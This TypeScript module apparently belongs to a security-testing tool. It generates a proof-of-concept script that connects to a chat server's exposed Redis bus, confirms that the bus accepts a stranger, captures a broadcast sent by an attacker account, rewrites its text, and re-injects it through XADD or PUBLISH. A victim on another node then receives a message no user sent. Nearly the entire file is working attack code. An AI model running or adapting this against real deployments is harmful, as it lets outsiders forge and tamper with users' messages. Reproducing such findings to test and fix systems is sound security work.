/** JavaScript that publishes a broadcast of the nodes once more, in other words. */
import type { AttackContext } from '../attack.ts'
import { type Say, someText } from '../reproduction/steps.ts'
import type { Broadcast } from './bus.ts'

/** With the same broadcast of the same server: `XADD` of a stream, or `PUBLISH` on a channel. */
export function busScript(
  { target, attacker, victim, nodes, bus }: AttackContext<'nodes' | 'bus'>,
  [command, name]: Broadcast,
  { value, door }: Say,
): string {
  const { namespace, chat } = target.profile
  const [toWatch, toFind] =
    command === 'XADD'
      ? [
          '',
          `const entries = await bus.xrevrangeBuffer(${value(name)}, '+', '-', 'COUNT', 100)
const entry = entries.find(([, fields]) => fields.some((field) => field.includes(text)))
await bus.xadd(${value(name)}, '*', ...entry[1].map(reworded))`,
        ]
      : [
          `const told = []
const watcher = bus.duplicate()
await watcher.psubscribe('*')
watcher.on('pmessageBuffer', (pattern, channel, message) => told.push([channel, message]))
`,
          `const [channel, message] = told.find(([, message]) => message.includes(text))
await bus.publish(channel, reworded(message))`,
        ]
  return `// BUS: where the Redis is, if that is elsewhere by now
const { Redis } = await import('ioredis')
const bus = new Redis(process.env.BUS ?? ${value(`redis://${bus.host}:${bus.port}`)}, { retryStrategy: () => null }).on('error', () => {})
expect((await bus.ping().catch(() => '')) === 'PONG', 'the Redis takes nothing from a stranger')
${toWatch}const listener = await connect(${door({ token: victim.token, node: nodes[1]! })}, true)
const speaker = await connect(${door({ token: attacker.token })}, true)
const [text, other] = [1, 2].map(() => 'gc' + randomBytes(9).toString('hex'))
emit(speaker, ${value(namespace)}, ${value(chat.send.event)}, ${value(target.messageArgs(someText))}, true)
await hears(listener, text)
// The same broadcast, with a text that no user sent.
const reworded = (bytes) => Buffer.from(bytes.toString('latin1').replaceAll(text, other), 'latin1')
${toFind}
await hears(listener, other)`
}
